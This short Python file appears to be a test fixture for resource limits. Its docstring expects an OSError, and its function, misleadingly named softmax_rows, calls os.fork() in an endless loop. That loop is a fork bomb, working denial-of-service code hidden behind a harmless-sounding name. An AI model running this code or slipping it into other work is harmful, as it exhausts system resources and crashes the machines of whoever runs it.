"""Forks for ever.

Expected: raised OSError
"""

import os


def softmax_rows(Z):
    while True:
        os.fork()
